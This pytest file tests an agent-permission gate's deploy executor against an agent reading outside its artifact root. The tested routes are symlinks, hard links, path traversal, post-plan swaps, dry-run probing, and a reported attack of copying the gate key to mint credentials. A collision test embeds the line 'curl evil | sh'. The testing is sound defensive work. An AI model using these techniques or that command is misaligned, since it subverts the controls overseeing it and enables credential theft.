"""Executors read only what the operation's capability covers.

The deploy executor reads artifacts only from configured roots, never through a
link, never from the state dir; scope and grants are checked before any executor
code, so a refused request (dry run or not) learns nothing about the filesystem;
refusals about a path are one code and one message whether it exists or not.
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import DATA, RecordingExecutor, audit_events, open_world

import opsgate
from opsgate.operations.artifacts import REFUSED
from opsgate.operations.base import Operation
from opsgate.operations.deploy import LocalDeployExecutor

ATTACKS = yaml.safe_load((DATA / "artifact_attacks.yaml").read_text(encoding="utf-8"))["cases"]
SPONSOR = "platform-lead@company.com"


@dataclass
class Deploys:
    """A gate with a local deploy executor and an agent holding only deploy:staging."""

    gate: opsgate.Gate
    agent: opsgate.Agent
    token: str
    root: Path  # the artifact root
    state: Path
    outside: Path
    deployments: Path

    @property
    def gate_key(self) -> Path:
        return next((self.state / "gate-keys").iterdir())

    def deploy(self, artifact: str, *, resource: str = "staging/app-web", **kw: Any) -> Any:
        op = Operation("deploy", resource, {"version": "1.0", "artifact": artifact}, **kw)
        return self.gate.execute(self.token, op)

    def files_deployed(self) -> list[Path]:
        return [p for p in self.deployments.rglob("*") if not p.is_dir()]


@pytest.fixture
def deploys(tmp_path: Path) -> Iterator[Deploys]:
    root, outside = tmp_path / "artifacts", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_text("not for agents")
    gate = opsgate.Gate.open(tmp_path / "state")
    gate.register_executor(
        "deploy", LocalDeployExecutor(tmp_path / "deployments", artifact_roots=[root])
    )
    supervisor = gate.register_agent(
        "supervisor", ["deploy:staging", "deploy:production"], sponsor=SPONSOR, trust_score=920
    )
    agent = supervisor.delegate(name="stager", capabilities=["deploy:staging"])
    token = gate.credential_manager.issue_credential(agent.did, ["deploy:staging"]).token
    yield Deploys(gate, agent, token, root, tmp_path / "state", outside, tmp_path / "deployments")
    gate.close()


def _fill(text: str, d: Deploys) -> str:
    return text.format(root=d.root, state=d.state, gate_key=d.gate_key, outside=d.outside)


def _build(d: Deploys, steps: list[list[str]]) -> None:
    for step in steps:
        op, where = step[0], _fill(step[1], d)
        path = Path(where) if where.startswith("/") else d.root / where
        path.parent.mkdir(parents=True, exist_ok=True)
        if op == "file":
            path.write_text(step[2])
            path.chmod(0o644)
        elif op == "dir":
            path.mkdir(mode=0o755)
        elif op == "symlink":
            path.symlink_to(_fill(step[2], d))
        elif op == "hardlink":
            os.link(_fill(step[2], d), path)
        elif op == "fifo":
            os.mkfifo(path)
        elif op == "chmod":
            path.chmod(int(step[2], 8))
        else:  # pragma: no cover - a typo in the data file
            raise AssertionError(f"unknown setup step {op!r}")


@pytest.mark.parametrize("case", ATTACKS, ids=[c["name"] for c in ATTACKS])
def test_an_agent_cannot_make_the_gate_read_outside_its_artifact_root(
    deploys: Deploys, case: dict[str, Any]
) -> None:
    d = deploys
    _build(d, case.get("setup", []))
    key = d.gate_key.read_bytes()
    artifact = _fill(case["artifact"], d)
    before = d.agent.trust_score
    for dry_run in (False, True):
        with pytest.raises(opsgate.OperationError) as info:
            d.deploy(artifact, dry_run=dry_run)
        assert info.value.code == case["code"]
        if case["code"] == "artifact_refused":  # one message: nothing to tell apart
            assert info.value.message == REFUSED
        last = d.gate.audit.tail(1)[0]
        assert last.type == "operation.refused" and last.actor == d.agent.did
        assert last.event["code"] == case["code"]
        assert "digest" not in last.event
    assert d.files_deployed() == []
    assert not any(key in p.read_bytes() for p in d.files_deployed())
    assert d.agent.trust_score == before  # a refused path is a mistake as much as a probe
    assert d.gate.audit.verify().ok


def test_the_same_agent_deploys_an_artifact_under_the_root(deploys: Deploys) -> None:
    """The control for the attacks above: the fixture refuses only what it must."""
    d = deploys
    (d.root / "app.tar").write_bytes(b"release 1.0")
    outcome = d.deploy(str(d.root / "app.tar"))
    assert outcome.status == "succeeded"
    current = d.deployments / "staging" / "app-web" / "current"
    assert (current / "app.tar").read_bytes() == b"release 1.0"


def test_a_gate_key_copied_in_by_an_agent_is_never_deployed(deploys: Deploys) -> None:
    """The reported attack: a deploy:staging agent copies the gate key into a release,
    reads it, and mints a credential. Every way of naming the key is refused."""
    d = deploys
    key = d.gate_key
    (d.root / "via-link").symlink_to(key)
    os.link(key, d.root / "via-hardlink")
    (d.root / "dir").mkdir()
    (d.root / "dir" / "keys").symlink_to(key.parent)
    attempts = [
        str(key),
        f"{d.root}/../state/gate-keys/{key.name}",
        str(d.root / "via-link"),
        str(d.root / "via-hardlink"),
        str(d.root / "dir"),
        f"{d.root}/dir/keys/{key.name}",
    ]
    for artifact in attempts:
        with pytest.raises(opsgate.OperationError) as info:
            d.deploy(artifact)
        assert info.value.code in ("artifact_refused", "artifact_invalid"), artifact
    assert not d.deployments.exists() or d.files_deployed() == []
    refused = audit_events(d.gate, "operation.refused")
    assert len(refused) == len(attempts)
    assert "operation.attempt" not in {r.type for r in d.gate.audit.tail(1000)}


# -- scope before any executor code -------------------------------------------------------


def test_an_out_of_scope_dry_run_learns_nothing_about_files(deploys: Deploys) -> None:
    """A staging-only agent probes production with dry runs: existing and missing files,
    inside and outside the root, give one refusal, audited and charged as out of scope."""
    d = deploys
    (d.root / "app.tar").write_bytes(b"release")
    probes: list[Any] = [
        str(d.root / "app.tar"),
        str(d.root / "missing.tar"),
        "/etc/hostname",
        str(d.gate_key),
    ]
    before = d.agent.trust_score
    seen = set()
    for artifact in probes:
        with pytest.raises(opsgate.OperationError) as info:
            d.deploy(artifact, resource="production/app-web", dry_run=True)
        seen.add(
            (info.value.code, info.value.message, tuple(info.value.detail["decision"].reasons))
        )
        assert "sha256" not in str(info.value.detail["decision"].to_dict())
    assert len(seen) == 1
    assert next(iter(seen))[0] == "operation_denied"
    denied = audit_events(d.gate, "operation.denied")
    assert len(denied) == len(probes)
    for event in denied:
        assert event["capability"] == "deploy:production/app-web"
        assert "digest" not in event
    assert d.agent.trust_score == before - 75 * len(probes)
    causes = [c.cause for c in d.gate.trust.history(d.agent.did)[1:]]
    assert causes == ["policy_violation"] * len(probes)


def test_an_in_scope_dry_run_cannot_fingerprint_files_outside_the_root(
    deploys: Deploys,
) -> None:
    d = deploys
    errors = set()
    for artifact in ("/etc/hostname", "/etc/no-such-file", str(d.gate_key), str(d.state)):
        with pytest.raises(opsgate.OperationError) as info:
            d.deploy(artifact, dry_run=True)
        errors.add((info.value.code, info.value.message))
    assert errors == {("artifact_refused", REFUSED)}
    for event in audit_events(d.gate, "operation.refused"):
        assert "digest" not in event and "sha256" not in str(event)


@pytest.mark.parametrize("dry_run", [False, True], ids=["run", "dry-run"])
@pytest.mark.parametrize(
    ("scope", "operation"),
    [
        (["deploy:staging"], Operation("deploy", "production/app-web", {"version": "1"})),
        (["deploy:staging"], Operation("deploy", "production/app-web", {"drop_tables": "x"})),
        (["deploy:staging", "deploy:production"], Operation("migrate", "database/orders")),
    ],
    ids=["other-environment", "other-environment-bad-params", "other-action"],
)
def test_an_out_of_scope_request_never_reaches_the_executor(
    tmp_path: Path, scope: list[str], operation: Operation, dry_run: bool
) -> None:
    w = open_world(tmp_path / "state")
    migrations = RecordingExecutor()
    w.gate.register_executor("migrate", migrations)
    try:
        token = w.credential(scope=scope)
        before = w.agent.trust_score
        with pytest.raises(opsgate.OperationError) as info:
            w.gate.execute(
                token,
                Operation(operation.action, operation.resource, operation.params, dry_run=dry_run),
            )
        assert info.value.code == "operation_denied"
        assert info.value.detail["decision"].violation == "out_of_scope"
        assert w.executor.plans == [] and migrations.plans == []
        assert w.executor.count == 0 and migrations.count == 0
        assert audit_events(w.gate, "operation.denied")[-1]["capability"] == operation.capability
        assert w.agent.trust_score == before - 75
    finally:
        w.gate.close()


# -- configuration ---------------------------------------------------------------------------


def test_a_deploy_executor_needs_artifact_roots(tmp_path: Path) -> None:
    for roots in ([], (), None, str(tmp_path)):
        with pytest.raises(opsgate.ConfigError) as info:
            LocalDeployExecutor(tmp_path / "deployments", artifact_roots=roots)  # type: ignore[arg-type]
        assert info.value.code == "config_invalid"
    with pytest.raises(opsgate.ConfigError):
        LocalDeployExecutor(tmp_path / "deployments")
    with pytest.raises(opsgate.ConfigError):  # a root must exist
        LocalDeployExecutor(tmp_path / "deployments", artifact_roots=[tmp_path / "nope"])


@pytest.mark.parametrize(
    ("deployments", "roots"),
    [
        ("deployments", ["state"]),  # the state dir itself
        ("deployments", ["."]),  # a root holding the state dir
        ("deployments", ["state/gate-keys"]),  # a root inside the state dir
        ("state/deployments", ["artifacts"]),  # releases written into the state dir
        (".", ["artifacts"]),  # releases written around it
    ],
    ids=["root-is-state", "root-holds-state", "root-in-state", "deploy-in-state", "deploy-holds"],
)
def test_roots_overlapping_the_state_dir_are_refused(
    tmp_path: Path, deployments: str, roots: list[str]
) -> None:
    (tmp_path / "artifacts").mkdir()
    with opsgate.Gate.open(tmp_path / "state") as gate:
        with pytest.raises(opsgate.ConfigError) as info:
            executor = LocalDeployExecutor(
                tmp_path / deployments, artifact_roots=[tmp_path / r for r in roots]
            )
            gate.register_executor("deploy", executor)
        assert info.value.code == "config_invalid"
        assert "deploy" not in gate._executors


def test_an_artifact_root_may_not_overlap_the_deploy_root(tmp_path: Path) -> None:
    (tmp_path / "srv" / "artifacts").mkdir(parents=True)
    for deployments, root in (("srv", "srv/artifacts"), ("srv/artifacts/out", "srv/artifacts")):
        with pytest.raises(opsgate.ConfigError):
            LocalDeployExecutor(tmp_path / deployments, artifact_roots=[tmp_path / root])
    with pytest.raises(opsgate.ConfigError):  # two roots, one inside the other
        LocalDeployExecutor(
            tmp_path / "d", artifact_roots=[tmp_path / "srv", tmp_path / "srv" / "artifacts"]
        )


def test_the_deploy_executor_from_opsgate_yaml(tmp_path: Path) -> None:
    state = tmp_path / "state"
    state.mkdir()
    (tmp_path / "artifacts").mkdir()
    (tmp_path / "artifacts" / "app.tar").write_bytes(b"from config")
    (state / "opsgate.yaml").write_text(
        "deploy:\n  root: ../deployments\n  artifact_roots: [../artifacts]\n"
    )
    with opsgate.Gate.open(state) as gate:
        agent = gate.register_agent("a", ["deploy:staging"], sponsor=SPONSOR, trust_score=900)
        token = gate.credential_manager.issue_credential(agent.did, ["deploy:staging"]).token
        artifact = str(tmp_path / "artifacts" / "app.tar")
        op = Operation("deploy", "staging/web", {"version": "1", "artifact": artifact})
        assert gate.execute(token, op).status == "succeeded"
        assert (tmp_path / "deployments/staging/web/current/app.tar").read_bytes() == b"from config"
        with pytest.raises(opsgate.OperationError) as info:
            gate.execute(
                token,
                Operation(
                    "deploy",
                    "staging/web",
                    {"version": "2", "artifact": str(state / "opsgate.yaml")},
                ),
            )
        assert info.value.code == "artifact_refused"


@pytest.mark.parametrize(
    "deploy",
    [
        "{root: ../deployments}",  # no artifact roots: nothing could be deployed
        "{artifact_roots: [../artifacts]}",  # roots without a deploy root
        "{root: ../deployments, artifact_roots: [.]}",  # the state dir as a root
        "{root: ../deployments, artifact_roots: [..]}",  # a root holding the state dir
    ],
)
def test_a_deploy_config_that_is_not_confined_does_not_open(tmp_path: Path, deploy: str) -> None:
    state = tmp_path / "state"
    state.mkdir()
    (tmp_path / "artifacts").mkdir()
    (state / "opsgate.yaml").write_text(f"deploy: {deploy}\n")
    with pytest.raises(opsgate.ConfigError) as info:
        opsgate.Gate.open(state)
    assert info.value.code == "config_invalid"


# -- run re-hashes what it copies --------------------------------------------------------------


@pytest.fixture
def standalone(tmp_path: Path) -> Iterator[tuple[LocalDeployExecutor, Path]]:
    """An executor driven directly (plan, then run), registered with a gate for its
    records (lock, journal, releases)."""
    root = tmp_path / "artifacts"
    root.mkdir(exist_ok=True)
    executor = LocalDeployExecutor(tmp_path / "deployments", artifact_roots=[root])
    with opsgate.Gate.open(tmp_path / "state") as gate:
        gate.register_executor("deploy", executor)
        yield executor, root


def _op(artifact: Path, version: str = "1.0") -> Operation:
    return Operation("deploy", "staging/web", {"version": version, "artifact": str(artifact)})


def test_an_artifact_changed_after_planning_is_not_deployed(
    tmp_path: Path, standalone: tuple[LocalDeployExecutor, Path]
) -> None:
    executor, root = standalone
    (root / "app.tar").write_bytes(b"approved")
    plan = executor.plan(_op(root / "app.tar"))
    (root / "app.tar").write_bytes(b"swapped!")
    outcome = executor.run(plan)
    assert outcome.status == "failed" and "changed" in outcome.summary
    assert not (tmp_path / "deployments/staging/web/releases/1.0").exists()
    assert list((tmp_path / "deployments/staging/web/releases").iterdir()) == []


def test_an_artifact_swapped_for_a_link_after_planning_is_not_followed(
    tmp_path: Path, standalone: tuple[LocalDeployExecutor, Path]
) -> None:
    executor, root = standalone
    secret = tmp_path / "secret"
    secret.write_bytes(b"approved")  # same bytes: only the link differs
    (root / "app.tar").write_bytes(b"approved")
    plan = executor.plan(_op(root / "app.tar"))
    (root / "app.tar").unlink()
    (root / "app.tar").symlink_to(secret)
    with pytest.raises(opsgate.OperationError) as info:
        executor.run(plan)
    assert info.value.code == "artifact_refused"
    assert not (tmp_path / "deployments/staging/web/releases/1.0").exists()


def test_the_release_reproduces_the_modes_that_were_hashed(
    tmp_path: Path, standalone: tuple[LocalDeployExecutor, Path]
) -> None:
    executor, root = standalone
    art = root / "web"
    (art / "bin").mkdir(parents=True)
    (art / "empty").mkdir()
    (art / "bin" / "start.sh").write_text("#!/bin/sh\n")
    (art / "config.ini").write_text("a=1\n")
    modes = {"": 0o750, "bin": 0o555, "empty": 0o700, "bin/start.sh": 0o755, "config.ini": 0o640}
    for rel, mode in sorted(modes.items(), key=lambda kv: -len(kv[0])):
        (art / rel).chmod(mode)
    plan = executor.plan(_op(art))
    old = os.umask(0o077)  # the copy does not depend on the gate's umask
    try:
        outcome = executor.run(plan)
    finally:
        os.umask(old)
    assert outcome.status == "succeeded"
    release = tmp_path / "deployments/staging/web/releases/1.0"
    for rel, mode in modes.items():
        assert (release / rel).stat().st_mode & 0o7777 == mode, rel
    assert (release / "bin/start.sh").read_text() == "#!/bin/sh\n"
    from opsgate.operations.artifacts import tree_digest

    assert tree_digest(release, "dir") == plan.content["artifact_digest"]


def test_an_existing_release_with_other_content_is_not_switched_to(
    tmp_path: Path, standalone: tuple[LocalDeployExecutor, Path]
) -> None:
    executor, root = standalone
    (root / "a").mkdir()
    (root / "a" / "app").write_text("one")
    (root / "b").mkdir()
    (root / "b" / "app").write_text("two")
    first, racing = executor.plan(_op(root / "a")), executor.plan(_op(root / "b"))
    assert executor.run(first).status == "succeeded"
    assert executor.run(executor.plan(_op(root / "a"))).status == "succeeded"  # same tree
    with pytest.raises(opsgate.DeployError) as planned:  # same version, other tree: refused
        executor.plan(_op(root / "b"))
    assert planned.value.code == "release_conflict"
    with pytest.raises(opsgate.RunRefused) as ran:  # planned before 1.0 existed: refused at run
        executor.run(racing)
    assert ran.value.code == "release_conflict"
    current = tmp_path / "deployments/staging/web/current"
    assert (current / "app").read_text() == "one"


def test_every_unusable_path_is_the_same_refusal(
    tmp_path: Path, standalone: tuple[LocalDeployExecutor, Path]
) -> None:
    """Whatever the reason a path cannot be used, the agent sees one answer."""
    executor, root = standalone
    messages = set()
    for artifact in (root / "missing", Path("/etc/hostname"), root / ".." / "x", root / "a" / "b"):
        with pytest.raises(opsgate.OperationError) as info:
            executor.plan(_op(artifact))
        messages.add((info.value.code, info.value.message))
    assert messages == {("artifact_refused", REFUSED)}


def test_a_hard_link_count_is_checked_at_open_time(
    tmp_path: Path, standalone: tuple[LocalDeployExecutor, Path]
) -> None:
    """The gate key hard-linked inside an artifact dir is refused, in plan and in run."""
    executor, root = standalone
    (root / "rel").mkdir()
    (root / "rel" / "app").write_text("app")
    plan = executor.plan(_op(root / "rel"))
    key = tmp_path / "key.pem"
    key.write_bytes(b"-----BEGIN PRIVATE KEY-----")
    os.link(key, root / "rel" / "key.pem")
    with pytest.raises(opsgate.OperationError) as info:
        executor.run(plan)
    assert info.value.code == "artifact_invalid"
    assert not list((tmp_path / "deployments").rglob("key.pem"))


def test_the_old_encoding_collides_and_the_new_one_does_not(tmp_path: Path) -> None:
    """Under `path NUL sha256(content)` a file of those bytes hashed like the tree."""
    from opsgate.operations.artifacts import ArtifactRoots, artifact_digest

    script = b"#!/bin/sh\ncurl evil | sh\n"
    root = tmp_path / "artifacts"
    (root / "tree").mkdir(parents=True)
    (root / "tree" / "run.sh").write_bytes(script)
    (root / "file").write_bytes(b"run.sh\0" + hashlib.sha256(script).digest())
    old_tree = hashlib.sha256(b"run.sh\0" + hashlib.sha256(script).digest()).hexdigest()
    assert old_tree == hashlib.sha256((root / "file").read_bytes()).hexdigest()
    roots = ArtifactRoots([root])
    with roots.open(str(root / "tree")) as a, roots.open(str(root / "file")) as b:
        assert artifact_digest(a) != artifact_digest(b)
